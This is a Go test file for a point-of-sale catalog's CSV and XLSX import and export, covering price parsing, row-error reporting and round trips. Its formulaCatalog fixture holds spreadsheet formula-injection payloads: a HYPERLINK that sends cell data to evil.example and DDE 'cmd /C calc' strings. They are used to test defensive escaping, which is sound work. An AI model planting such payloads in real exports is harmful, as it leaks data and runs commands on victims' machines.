package pos

import (
	"bytes"
	"encoding/csv"
	"errors"
	"path/filepath"
	"reflect"
	"strings"
	"testing"
)

// productRow writes one products.csv line: a valid honey product with the given
// cells replaced.
func productRow(t testing.TB, over map[string]string) string {
	t.Helper()
	cells := map[string]string{
		"sku": "MO-500", "gtin": "8935001800002", "name": "Mật ong U Minh Hạ 500ml", "name_en": "U Minh Ha honey 500ml",
		"group": "food", "stars": "5", "cert_no": "1586/QĐ-BNN", "cert_expiry": "2027-05-17", "producer_id": "P-UMINH",
		"unit": "chai", "price": "220000", "vat_rate": "8", "barcodes": "", "stock": "146",
	}
	for k, v := range over {
		if !strings.Contains(strings.Join(ProductColumns, ","), k) {
			t.Fatalf("productRow: no column %q", k)
		}
		cells[k] = v
	}
	rec := make([]string, len(ProductColumns))
	for i, c := range ProductColumns {
		rec[i] = cells[c]
	}
	var b bytes.Buffer
	w := csv.NewWriter(&b)
	_ = w.Write(rec)
	w.Flush()
	return strings.TrimSuffix(b.String(), "\n")
}

func productsFile(lines ...string) string {
	return strings.Join(append([]string{strings.Join(ProductColumns, ",")}, lines...), "\n") + "\n"
}

// importError checks that err is an *ImportError matched by ErrImport and returns it.
func importError(t *testing.T, err error) *ImportError {
	t.Helper()
	if err == nil {
		t.Fatal("import succeeded, want an error")
	}
	if !errors.Is(err, ErrImport) {
		t.Errorf("errors.Is(%v, ErrImport) is false", err)
	}
	var ie *ImportError
	if !errors.As(err, &ie) {
		t.Fatalf("error %T %v is not an *ImportError", err, err)
	}
	return ie
}

func TestParseProductsCSV(t *testing.T) {
	file := productsFile(
		productRow(t, map[string]string{"barcodes": "PLU-1 | 2000550000015", "description": "Ngọt thanh, thơm \"hoa tràm\"\nđóng chai"}),
		productRow(t, map[string]string{"sku": "RICE-5", "gtin": "", "name": "Gạo hữu cơ 5kg", "name_en": "", "group": "FOOD",
			"stars": "4", "cert_no": "", "cert_expiry": "", "producer_id": "P-RICE", "unit": "túi", "price": "125.000", "vat_rate": "5", "stock": ""}),
	)
	pr, err := ParseProductsCSV(strings.NewReader(file))
	if err != nil {
		t.Fatal(err)
	}
	want := []Product{
		{SKU: "MO-500", GTIN: "08935001800002", Name: "Mật ong U Minh Hạ 500ml", NameEN: "U Minh Ha honey 500ml", Group: GroupFood,
			Stars: 5, CertNo: "1586/QĐ-BNN", CertExpiry: Date{2027, 5, 17}, ProducerID: "P-UMINH", Unit: "chai", Price: 220000,
			VATRate: 8, Barcodes: []string{"PLU-1", "2000550000015"}, Stock: 146, Description: "Ngọt thanh, thơm \"hoa tràm\"\nđóng chai"},
		{SKU: "RICE-5", Name: "Gạo hữu cơ 5kg", Group: GroupFood, Stars: 4, ProducerID: "P-RICE", Unit: "túi", Price: 125000, VATRate: 5},
	}
	if !reflect.DeepEqual(pr.Products, want) {
		t.Errorf("products =\n%+v\nwant\n%+v", pr.Products, want)
	}
	if !reflect.DeepEqual(pr.StockGiven, []bool{true, false}) {
		t.Errorf("StockGiven = %v, want [true false] (an empty stock cell is not a stock of 0)", pr.StockGiven)
	}
	// The first product's description spans two lines of the file but is one row.
	if !reflect.DeepEqual(pr.Rows, []int{2, 3}) {
		t.Errorf("Rows = %v, want [2 3]", pr.Rows)
	}
}

func TestParseProductsCSVReadsVietnameseThousandsSeparators(t *testing.T) {
	tests := []struct {
		price string
		want  Money
	}{
		{"125000", 125000},
		{"125.000", 125000},
		{"1.250.000", 1250000},
		{"125,000", 125000},
		{" 125.000 ", 125000},
	}
	for _, tt := range tests {
		t.Run("a price written "+tt.price+" is "+FormatVND(tt.want)+" đồng", func(t *testing.T) {
			pr, err := ParseProductsCSV(strings.NewReader(productsFile(productRow(t, map[string]string{"price": tt.price}))))
			if err != nil {
				t.Fatal(err)
			}
			if got := pr.Products[0].Price; got != tt.want {
				t.Errorf("price %q read as %d, want %d", tt.price, got, tt.want)
			}
		})
	}
}

// A spreadsheet column formatted with two decimals exports "120000.00" (or
// "120.000,00" in a Vietnamese locale). Stripping every '.' and ',' reads that as
// 12.000.000 đồng, a price a hundred times too high, without a word.
func TestParseProductsCSVDoesNotMultiplyAPriceWrittenWithDecimals(t *testing.T) {
	for _, price := range []string{"120000.00", "120.000,00", "120,000.00"} {
		t.Run("a price written "+price+" is refused or read as 120.000", func(t *testing.T) {
			pr, err := ParseProductsCSV(strings.NewReader(productsFile(productRow(t, map[string]string{"price": price}))))
			if err != nil {
				return // refusing it is fine
			}
			if got := pr.Products[0].Price; got != 120000 {
				t.Errorf("price %q imported as %s, want an error or 120.000 ₫", price, got)
			}
		})
	}
}

func TestParseProductsCSVAcceptsAByteOrderMark(t *testing.T) {
	tests := []struct {
		name   string
		header string
	}{
		{"a BOM before a plain header", strings.Join(ProductColumns, ",")},
		{"a BOM before a quoted header, as csv writers that quote everything produce", `"` + strings.Join(ProductColumns, `","`) + `"`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			file := "\ufeff" + tt.header + "\n" + productRow(t, nil) + "\n"
			pr, err := ParseProductsCSV(strings.NewReader(file))
			if err != nil {
				t.Fatalf("file with BOM refused: %v", err)
			}
			if len(pr.Products) != 1 || pr.Products[0].SKU != "MO-500" {
				t.Errorf("products = %+v, want MO-500", pr.Products)
			}
		})
	}
}

func TestParseProductsCSVAcceptsColumnsInAnyOrderAndCase(t *testing.T) {
	file := " Price ,SKU,name,GROUP,stars,producer_id,vat_rate\n" +
		"\"125.000\",KD-400,Kẹo dừa Bến Tre,food,4,P-BT,8\n"
	pr, err := ParseProductsCSV(strings.NewReader(file))
	if err != nil {
		t.Fatal(err)
	}
	want := Product{SKU: "KD-400", Name: "Kẹo dừa Bến Tre", Group: GroupFood, Stars: 4, ProducerID: "P-BT", Price: 125000, VATRate: 8}
	if len(pr.Products) != 1 || !reflect.DeepEqual(pr.Products[0], want) {
		t.Errorf("products = %+v, want [%+v]", pr.Products, want)
	}
}

func TestParseProductsCSVReportsBadRows(t *testing.T) {
	good2 := productRow(t, map[string]string{"sku": "A-1", "gtin": ""})
	good3 := productRow(t, map[string]string{"sku": "A-2", "gtin": ""})
	bad := func(over map[string]string) string {
		m := map[string]string{"sku": "B-1", "gtin": ""}
		for k, v := range over {
			m[k] = v
		}
		return productRow(t, m)
	}
	tests := []struct {
		name    string
		file    string
		row     int
		column  string // "" = any
		message string // a substring of the message
	}{
		{"a price that is not a number", productsFile(good2, bad(map[string]string{"price": "hai trăm"})), 3, "price", "not a whole number"},
		{"a price of zero", productsFile(good2, good3, bad(map[string]string{"price": "0"})), 4, "", "price 0"},
		{"a negative price", productsFile(good2, bad(map[string]string{"price": "-5000"})), 3, "", "price -5000"},
		{"a price above the maximum", productsFile(good2, bad(map[string]string{"price": "1000000001"})), 3, "", "price 1000000001"},
		{"an unknown group", productsFile(good2, good3, bad(map[string]string{"group": "seafood"})), 4, "", `group "seafood"`},
		{"six stars", productsFile(good2, bad(map[string]string{"stars": "6"})), 3, "", "6 stars"},
		{"stars written in words", productsFile(good2, bad(map[string]string{"stars": "bốn"})), 3, "stars", "not a whole number"},
		{"a VAT rate of 7%", productsFile(good2, bad(map[string]string{"vat_rate": "7"})), 3, "", "VAT rate 7%"},
		{"a GTIN with a wrong check digit", productsFile(good2, good3, bad(map[string]string{"gtin": "8935001800009"})), 4, "", "check digit"},
		{"a GTIN of the wrong length", productsFile(bad(map[string]string{"gtin": "89350018000"})), 2, "", "11 digits"},
		{"a duplicate sku, pointing at the first row", productsFile(good2, good3, productRow(t, map[string]string{"sku": "A-1", "gtin": ""})), 4, "sku", "already on row 2"},
		{"a GTIN shared by two products", productsFile(productRow(t, map[string]string{"sku": "A-1"}), productRow(t, map[string]string{"sku": "A-2"})), 3, "barcodes", "also belongs to A-1"},
		{"a negative stock", productsFile(good2, bad(map[string]string{"stock": "-1"})), 3, "", "stock -1"},
		{"an impossible date", productsFile(good2, bad(map[string]string{"cert_expiry": "2027-02-30"})), 3, "cert_expiry", "YYYY-MM-DD"},
		{"a date written day first", productsFile(good2, good3, bad(map[string]string{"cert_expiry": "17/05/2027"})), 4, "cert_expiry", "YYYY-MM-DD"},
		{"an empty name", productsFile(bad(map[string]string{"name": "  "})), 2, "", "name is empty"},
		{"a sku with a space", productsFile(bad(map[string]string{"sku": "MO 500"})), 2, "", "sku"},
		{"a row after an empty spreadsheet row keeps its row number", productsFile(good2, ",,,,,,,,,,,,,,,,", bad(map[string]string{"stars": "6"})), 4, "", "6 stars"},
		{"an unknown column in the header", strings.Join(append(ProductColumns[:len(ProductColumns):len(ProductColumns)], "colour"), ",") + "\n" + good2 + ",đỏ\n", 1, "colour", "unknown column"},
		{"a required column missing from the header", "sku,name,group,stars,producer_id,vat_rate\nA-1,Mật ong,food,4,P,8\n", 1, "price", "required column missing"},
		{"a column named twice in the header", strings.Join(ProductColumns, ",") + ",price\n", 1, "price", "twice"},
		{"an empty file", "", 1, "", "empty"},
		{"a bare quote in a field", productsFile(good2, good3, `B-1,,Mật ong "rừng,,food,5,,,P,chai,1000,8,,1,,,`), 4, "", "bare \""},
		{"a bare quote in the header", "sku,na\"me,group\n", 1, "", "bare \""},
	}
	for _, tt := range tests {
		t.Run(tt.name+" is reported on row "+string(rune('0'+tt.row)), func(t *testing.T) {
			_, err := ParseProductsCSV(strings.NewReader(tt.file))
			ie := importError(t, err)
			if ie.Kind != "products" {
				t.Errorf("Kind = %q, want products", ie.Kind)
			}
			for _, r := range ie.Rows {
				if r.Row == tt.row && (tt.column == "" || r.Column == tt.column) && strings.Contains(r.Message, tt.message) {
					return
				}
			}
			t.Errorf("no row error {row %d, column %q, message containing %q} in %+v", tt.row, tt.column, tt.message, ie.Rows)
		})
	}
}

func TestParseProductsCSVReportsEveryBadRowAtOnce(t *testing.T) {
	file := productsFile(
		productRow(t, map[string]string{"sku": "A-1", "stars": "6"}),
		productRow(t, map[string]string{"sku": "A-2", "gtin": ""}),
		productRow(t, map[string]string{"sku": "A-3", "gtin": "", "price": "x"}),
	)
	_, err := ParseProductsCSV(strings.NewReader(file))
	ie := importError(t, err)
	var rows []int
	for _, r := range ie.Rows {
		if len(rows) == 0 || rows[len(rows)-1] != r.Row {
			rows = append(rows, r.Row)
		}
	}
	if !reflect.DeepEqual(rows, []int{2, 4}) {
		t.Errorf("bad rows = %v, want [2 4]: %v", rows, err)
	}
}

// An import report is read next to the spreadsheet: it should name the cell, not
// only the row, for every field that fails the product's validation.
func TestParseProductsCSVNamesTheColumnOfAFieldThatFailsValidation(t *testing.T) {
	tests := []struct {
		name   string
		over   map[string]string
		column string
	}{
		{"a price of zero", map[string]string{"price": "0"}, "price"},
		{"an unknown group", map[string]string{"group": "seafood"}, "group"},
		{"six stars", map[string]string{"stars": "6"}, "stars"},
		{"a GTIN with a wrong check digit", map[string]string{"gtin": "8935001800009"}, "gtin"},
		{"a negative stock", map[string]string{"stock": "-1"}, "stock"},
		{"a VAT rate of 7%", map[string]string{"vat_rate": "7"}, "vat_rate"},
	}
	for _, tt := range tests {
		t.Run(tt.name+" is reported in column "+tt.column, func(t *testing.T) {
			_, err := ParseProductsCSV(strings.NewReader(productsFile(productRow(t, tt.over))))
			ie := importError(t, err)
			if len(ie.Rows) != 1 || ie.Rows[0].Row != 2 || ie.Rows[0].Column != tt.column {
				t.Errorf("row errors = %+v, want one on row 2 in column %q", ie.Rows, tt.column)
			}
		})
	}
}

func TestProductsCSVRoundTrip(t *testing.T) {
	in := []Product{
		{SKU: "MO-500", GTIN: "08935001800002", Name: "Mật ong rừng tràm U Minh Hạ 500ml", NameEN: "U Minh Ha forest honey",
			Group: GroupFood, Stars: 5, CertNo: "1586/QĐ-BNN-VPĐP", CertExpiry: Date{2027, 5, 17}, ProducerID: "CM-HTX-UMINH",
			Unit: "chai", Price: 220000, VATRate: 8, Barcodes: []string{"PLU-1", "2000550000015"}, Stock: 146, Image: "mo-500.jpg",
			Description: "Ngọt thanh, \"thơm\" hoa tràm.\nKhai thác thủ công.", DescriptionEN: "Light, floral; hand-harvested."},
		{SKU: "TOUR-1", Name: "Vé tour xuồng ba lá, 2 giờ", Group: GroupTourism, Stars: 3, ProducerID: "BT-HTX", Unit: "vé",
			Price: 1, VATRate: 0, Stock: 0},
		{SKU: "DEAR", Name: "Bình gốm", Group: GroupHandicraft, Stars: 4, ProducerID: "P", Price: MaxPrice, VATRate: 10, Stock: MaxStock},
	}
	var buf bytes.Buffer
	if err := WriteProductsCSV(&buf, in); err != nil {
		t.Fatal(err)
	}
	pr, err := ParseProductsCSV(&buf)
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(pr.Products, in) {
		t.Errorf("round trip changed the products:\n got %+v\nwant %+v", pr.Products, in)
	}
	if !reflect.DeepEqual(pr.StockGiven, []bool{true, true, true}) {
		t.Errorf("StockGiven = %v, want all true: the export writes every stock", pr.StockGiven)
	}
}

func TestDemoCatalogSurvivesExportAndImport(t *testing.T) {
	c, err := DemoCatalog()
	if err != nil {
		t.Fatal(err)
	}
	var b bytes.Buffer
	if err := WriteProductsCSV(&b, c.Products); err != nil {
		t.Fatal(err)
	}
	pr, err := ParseProductsCSV(&b)
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(pr.Products, c.Products) {
		t.Error("demo products changed through export and import")
	}
	b.Reset()
	if err := WriteProducersCSV(&b, c.Producers); err != nil {
		t.Fatal(err)
	}
	ps, err := ParseProducersCSV(&b)
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(ps, c.Producers) {
		t.Error("demo producers changed through export and import")
	}
	b.Reset()
	if err := WriteLotsCSV(&b, c.Lots); err != nil {
		t.Fatal(err)
	}
	lr, err := ParseLotsCSV(&b)
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(lr.Lots, c.Lots) {
		t.Error("demo lots changed through export and import")
	}
}

func TestParseProducersCSV(t *testing.T) {
	header := strings.Join(ProducerColumns, ",")
	good := `CM-HTX-UMINH,HTX Ong mật U Minh Hạ,HTX,2001438713,Cà Mau,Xã Khánh An,"Ấp 9, xã Khánh An",0918325476,970405,7706205148237,HTX ONG MAT U MINH HA`
	ps, err := ParseProducersCSV(strings.NewReader(header + "\n" + good + "\n"))
	if err != nil {
		t.Fatal(err)
	}
	want := []Producer{{ID: "CM-HTX-UMINH", Name: "HTX Ong mật U Minh Hạ", Kind: KindHTX, TaxCode: "2001438713", Province: "Cà Mau",
		Commune: "Xã Khánh An", Address: "Ấp 9, xã Khánh An", Phone: "0918325476", BankBIN: "970405", BankAccount: "7706205148237",
		BankAccountName: "HTX ONG MAT U MINH HA"}}
	if !reflect.DeepEqual(ps, want) {
		t.Errorf("producers = %+v\nwant %+v", ps, want)
	}

	tests := []struct {
		name    string
		row     string
		wantRow int
		column  string
		message string
	}{
		{"an unknown kind", "P-2,Cơ sở A,company,,,,,,,,", 3, "", `kind "company"`},
		{"a tax code of 9 digits", "P-2,Cơ sở A,household,200143871,,,,,,,", 3, "", "tax code"},
		{"a branch tax code is fine but a bank BIN of 5 digits is not", "P-2,Cơ sở A,household,2001438713-001,,,,,97040,,", 3, "", "bank BIN"},
		{"an empty name", "P-2,,household,,,,,,,,", 3, "", "name is empty"},
		{"a duplicate id", "CM-HTX-UMINH,Khác,household,,,,,,,,", 3, "id", "already on row 2"},
	}
	for _, tt := range tests {
		t.Run(tt.name+" is reported", func(t *testing.T) {
			_, err := ParseProducersCSV(strings.NewReader(header + "\n" + good + "\n" + tt.row + "\n"))
			ie := importError(t, err)
			if ie.Kind != "producers" {
				t.Errorf("Kind = %q, want producers", ie.Kind)
			}
			if len(ie.Rows) != 1 || ie.Rows[0].Row != tt.wantRow || (tt.column != "" && ie.Rows[0].Column != tt.column) ||
				!strings.Contains(ie.Rows[0].Message, tt.message) {
				t.Errorf("row errors = %+v, want one on row %d, column %q, mentioning %q", ie.Rows, tt.wantRow, tt.column, tt.message)
			}
		})
	}
}

func TestParseLotsCSV(t *testing.T) {
	header := strings.Join(LotColumns, ",")
	good := `CM-MO-500,UM2605-01,2026-05-08,2026-05-15,2028-05-15,"Rừng tràm U Minh Hạ, Cà Mau",Hữu cơ | VietGAP,180`
	lr, err := ParseLotsCSV(strings.NewReader(header + "\n" + good + "\n"))
	if err != nil {
		t.Fatal(err)
	}
	want := []Lot{{SKU: "CM-MO-500", Code: "UM2605-01", ProducedOn: Date{2026, 5, 8}, PackedOn: Date{2026, 5, 15}, ExpiresOn: Date{2028, 5, 15},
		Origin: "Rừng tràm U Minh Hạ, Cà Mau", Certifications: []string{"Hữu cơ", "VietGAP"}, Quantity: 180}}
	if !reflect.DeepEqual(lr.Lots, want) || !reflect.DeepEqual(lr.Rows, []int{2}) {
		t.Errorf("lots = %+v rows %v\nwant %+v rows [2]", lr.Lots, lr.Rows, want)
	}

	tests := []struct {
		name    string
		row     string
		wantRow int
		column  string
		message string
	}{
		{"a bad date", "CM-MO-500,UM2609-02,2026-9-10,,,,,1", 3, "produced_on", "YYYY-MM-DD"},
		{"packing before production", "CM-MO-500,UM2609-02,2026-09-10,2026-09-01,,,,1", 3, "", "packed 2026-09-01 before produced 2026-09-10"},
		{"expiry before production", "CM-MO-500,UM2609-02,2026-09-10,,2026-01-01,,,1", 3, "", "expires"},
		{"a lot code with a character outside the GS1 set", "CM-MO-500,UM 2609,,,,,,1", 3, "", "GS1"},
		{"a lot code longer than 20 characters", "CM-MO-500,UM2609-0123456789012345,,,,,,1", 3, "", "GS1"},
		{"a negative quantity", "CM-MO-500,UM2609-02,,,,,,-3", 3, "", "quantity -3"},
		{"a duplicate lot of the same product", "CM-MO-500,UM2605-01,,,,,,5", 3, "lot", "already on row 2"},
		{"a quantity that is not a number", "CM-MO-500,UM2609-02,,,,,,nhiều", 3, "quantity", "not a whole number"},
	}
	for _, tt := range tests {
		t.Run(tt.name+" is reported", func(t *testing.T) {
			_, err := ParseLotsCSV(strings.NewReader(header + "\n" + good + "\n" + tt.row + "\n"))
			ie := importError(t, err)
			if ie.Kind != "lots" {
				t.Errorf("Kind = %q, want lots", ie.Kind)
			}
			if len(ie.Rows) != 1 || ie.Rows[0].Row != tt.wantRow || (tt.column != "" && ie.Rows[0].Column != tt.column) ||
				!strings.Contains(ie.Rows[0].Message, tt.message) {
				t.Errorf("row errors = %+v, want one on row %d, column %q, mentioning %q", ie.Rows, tt.wantRow, tt.column, tt.message)
			}
		})
	}

	t.Run("the same lot code on two products is fine", func(t *testing.T) {
		lr, err := ParseLotsCSV(strings.NewReader(header + "\n" + good + "\nCM-MO-250,UM2605-01,,,,,,1\n"))
		if err != nil || len(lr.Lots) != 2 {
			t.Errorf("got %d lots, %v; want 2 lots", len(lr.Lots), err)
		}
	})
}

func TestImportErrorMessageNamesTheFirstRows(t *testing.T) {
	e := &ImportError{Kind: "products", Rows: []RowError{
		{Row: 2, Column: "price", Message: "bad"}, {Row: 3, Message: "worse"}, {Row: 4, Message: "x"}, {Row: 5, Message: "y"},
	}}
	want := "products import: 4 bad row(s), nothing imported; row 2, column price: bad; row 3: worse; row 4: x; …"
	if got := e.Error(); got != want {
		t.Errorf("Error() = %q\nwant      %q", got, want)
	}
}

func FuzzParseProductsCSV(f *testing.F) {
	demo, err := demoFS.ReadFile("demodata/products.csv")
	if err != nil {
		f.Fatal(err)
	}
	// The head of the demo file, not all 33 KB of it: the fuzzer spends its time
	// minimising inputs grown from a large seed instead of exploring.
	head := bytes.SplitAfterN(demo, []byte("\n"), 5)
	f.Add(bytes.Join(head[:4], nil))
	f.Add([]byte(productsFile(productRow(f, nil))))
	f.Add([]byte(productsFile(productRow(f, map[string]string{"price": "125.000", "barcodes": "A|B|"}))))
	f.Add([]byte("\ufeff" + productsFile(productRow(f, map[string]string{"stars": "6"}))))
	f.Add([]byte("sku,name\n\"a\n"))
	f.Add([]byte(""))
	f.Add([]byte("\"sku\",\"na\"me\"\n"))
	f.Fuzz(func(t *testing.T, data []byte) {
		pr, err := ParseProductsCSV(bytes.NewReader(data))
		if err != nil {
			if !errors.Is(err, ErrImport) {
				t.Fatalf("error %v is not an ErrImport", err)
			}
			var ie *ImportError
			if !errors.As(err, &ie) || len(ie.Rows) == 0 {
				t.Fatalf("import error %v names no row", err)
			}
			return
		}
		if len(pr.StockGiven) != len(pr.Products) || len(pr.Rows) != len(pr.Products) {
			t.Fatalf("%d products, %d StockGiven, %d Rows", len(pr.Products), len(pr.StockGiven), len(pr.Rows))
		}
		seen := map[string]bool{}
		for i, p := range pr.Products {
			q := p
			q.Barcodes = append([]string(nil), p.Barcodes...)
			if err := q.Validate(); err != nil {
				t.Fatalf("imported product %d does not validate: %v", i, err)
			}
			if !reflect.DeepEqual(q, p) {
				t.Fatalf("imported product %d was not normalised: %+v became %+v", i, p, q)
			}
			if seen[p.SKU] {
				t.Fatalf("sku %q imported twice", p.SKU)
			}
			seen[p.SKU] = true
			if i > 0 && pr.Rows[i] <= pr.Rows[i-1] {
				t.Fatalf("rows not increasing: %v", pr.Rows)
			}
		}
	})
}

// A hand-edited CSV may hold an empty line. A spreadsheet opening the file shows
// it as an empty row, so the rows after it must keep the numbers the spreadsheet
// gives them (encoding/csv skips empty lines without counting them).
func TestParseProductsCSVCountsEmptyLinesAsRows(t *testing.T) {
	tests := []struct {
		name string
		file string
		row  int
	}{
		{"an empty line before the bad row", productsFile("", productRow(t, map[string]string{"stars": "6"})), 3},
		{"two empty lines between good and bad rows", productsFile(productRow(t, map[string]string{"sku": "A-1", "gtin": ""}), "", "", productRow(t, map[string]string{"stars": "6"})), 5},
	}
	for _, tt := range tests {
		t.Run(tt.name+" puts the bad row on row "+string(rune('0'+tt.row)), func(t *testing.T) {
			_, err := ParseProductsCSV(strings.NewReader(tt.file))
			ie := importError(t, err)
			if len(ie.Rows) != 1 || ie.Rows[0].Row != tt.row {
				t.Errorf("row errors = %+v, want one on row %d", ie.Rows, tt.row)
			}
		})
	}
}

// formulaCatalog is a catalog whose text cells a spreadsheet would run as
// formulas if they were written as they are.
func formulaCatalog() Catalog {
	return Catalog{
		Producers: []Producer{{ID: "P1", Name: "=HYPERLINK(\"http://evil.example/?\"&A1,\"HTX Ong mật\")", Kind: KindHTX,
			Address: "-2+3", Phone: "+84 912 345 678", Commune: "@SUM(1+1)", Province: "'=already quoted"}},
		Products: []Product{{SKU: "MO-1", Name: "=HYPERLINK(\"http://evil.example\",\"Mật ong\")", NameEN: "+cmd|' /C calc'!A0",
			Group: GroupFood, Stars: 5, CertNo: "@SUM(1+1)", ProducerID: "P1", Unit: "-2+3", Price: 220000, VATRate: 8, Stock: 4,
			Description: "=1+1\nthơm hoa tràm", DescriptionEN: "'+not a formula", Image: "'plain apostrophe"}},
		Lots: []Lot{{SKU: "MO-1", Code: "-L1", Origin: "=cmd|' /C calc'!A0", Certifications: []string{"@VietGAP", "hữu cơ"}, Quantity: 3}},
	}
}

func TestCatalogCSVExportWritesNoCellASpreadsheetRunsAsAFormula(t *testing.T) {
	c := formulaCatalog()
	for kind, write := range map[string]func(*bytes.Buffer) error{
		FileProducers: func(b *bytes.Buffer) error { return WriteProducersCSV(b, c.Producers) },
		FileProducts:  func(b *bytes.Buffer) error { return WriteProductsCSV(b, c.Products) },
		FileLots:      func(b *bytes.Buffer) error { return WriteLotsCSV(b, c.Lots) },
	} {
		var b bytes.Buffer
		if err := write(&b); err != nil {
			t.Fatal(err)
		}
		recs, err := csv.NewReader(&b).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		for _, rec := range recs[1:] {
			for i, cell := range rec {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("%s: column %d is %q, which a spreadsheet runs as a formula", kind, i, cell)
				}
			}
		}
	}
}

func TestCatalogCSVExportImportsBackAsItWas(t *testing.T) {
	c := formulaCatalog()
	var b bytes.Buffer
	if err := WriteProducersCSV(&b, c.Producers); err != nil {
		t.Fatal(err)
	}
	ps, err := ParseProducersCSV(&b)
	if err != nil || !reflect.DeepEqual(ps, c.Producers) {
		t.Errorf("producers after export and import (%v):\n got %+v\nwant %+v", err, ps, c.Producers)
	}
	b.Reset()
	if err := WriteProductsCSV(&b, c.Products); err != nil {
		t.Fatal(err)
	}
	pr, err := ParseProductsCSV(&b)
	if err != nil || !reflect.DeepEqual(pr.Products, c.Products) {
		t.Errorf("products after export and import (%v):\n got %+v\nwant %+v", err, pr.Products, c.Products)
	}
	b.Reset()
	if err := WriteLotsCSV(&b, c.Lots); err != nil {
		t.Fatal(err)
	}
	lr, err := ParseLotsCSV(&b)
	if err != nil || !reflect.DeepEqual(lr.Lots, c.Lots) {
		t.Errorf("lots after export and import (%v):\n got %+v\nwant %+v", err, lr.Lots, c.Lots)
	}
}

func TestSpreadsheetTextEscapeIsUndoneExactly(t *testing.T) {
	for _, tt := range []struct{ in, cell string }{
		{"Mật ong", "Mật ong"},
		{"", ""},
		{"=1+1", "'=1+1"},
		{"+84 912", "'+84 912"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"'=1", "''=1"},  // an apostrophe of its own before a formula is kept
		{"''x", "'''x"},  // and before another apostrophe
		{"'abc", "'abc"}, // one before ordinary text needs nothing
		{"a=1", "a=1"},
	} {
		if got := SpreadsheetText(tt.in); got != tt.cell {
			t.Errorf("SpreadsheetText(%q) = %q, want %q", tt.in, got, tt.cell)
		}
		if got := FromSpreadsheetText(tt.cell); got != tt.in {
			t.Errorf("FromSpreadsheetText(%q) = %q, want %q", tt.cell, got, tt.in)
		}
	}
}

func TestCatalogWorkbookHoldsFormulaLikeTextAsTextAndImportsBack(t *testing.T) {
	s, err := Open(filepath.Join(t.TempDir(), "k.db"), StoreOptions{})
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	c := formulaCatalog()
	if err := s.PutCatalog(c, "test"); err != nil {
		t.Fatal(err)
	}
	var b bytes.Buffer
	if err := s.WriteCatalogXLSX(&b); err != nil {
		t.Fatal(err)
	}
	got, err := ParseCatalogXLSX("", &b)
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(got.Producers, c.Producers) || !reflect.DeepEqual(got.Products, c.Products) || !reflect.DeepEqual(got.Lots, c.Lots) {
		t.Errorf("workbook round trip:\n got %+v\n     %+v\n     %+v\nwant %+v\n     %+v\n     %+v",
			got.Producers, got.Products, got.Lots, c.Producers, c.Products, c.Lots)
	}
}
